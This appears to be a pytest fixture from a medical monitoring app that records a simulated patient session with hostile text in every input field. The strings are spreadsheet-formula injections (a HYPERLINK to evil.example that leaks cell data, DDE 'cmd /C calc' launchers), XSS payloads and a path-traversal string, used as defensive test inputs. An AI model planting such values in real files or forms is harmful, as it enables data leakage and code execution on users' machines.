"""A short simulated session recorded with hostile text typed into every field."""

from __future__ import annotations

from pathlib import Path

import pytest

from monitor.clock import SimulatedClock
from monitor.model import Limb, MarkerKind, SessionInfo
from monitor.pipeline import BlockPipeline
from monitor.procedure.recorder import SessionRecorder
from monitor.simulation.source import SimulatedSource
from monitor.store import SessionStore

HOSTILE_ID = '=HYPERLINK("http://evil.example/?x="&A1)<script>alert(1)</script>../../etc/passwd'
HOSTILE_NOTE = '+cmd|" /C calc"!A0 <b>bold</b> & </div><img src=x onerror=alert(1)>'
HOSTILE_OPERATOR = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_DRUG = "-2+3 ]]><!--"


def record_hostile_session(path: Path | None, until_s: float = 1500.0) -> Path:
    source = SimulatedSource("success-fast", seed=2, blocked=Limb.LEFT, clock=SimulatedClock(manual=True))
    info = SessionInfo(patient_id=HOSTILE_ID, blocked=Limb.LEFT, operator=HOSTILE_OPERATOR, nurse="N",
                       drug=HOSTILE_DRUG, levels="L3", simulated=True)
    store = SessionStore.create(info, path)
    recorder = SessionRecorder(source, store, BlockPipeline(Limb.LEFT), commit_interval_s=0.0)
    recorder.schedule_marker(MarkerKind.INJECTION, source.suggested_injection_s)
    source.start()
    t = 0.0
    while t < until_s:
        t += 10.0
        source.step_to(t)
        recorder.pump()
        if t == 600.0:
            recorder.add_marker(MarkerKind.NOTE, 600.0, text=HOSTILE_NOTE)
    recorder.finish()
    return store.path


@pytest.fixture(scope="module")
def hostile_session(tmp_path_factory) -> Path:
    return record_hostile_session(tmp_path_factory.mktemp("hostile") / "hostile.sympatherm")
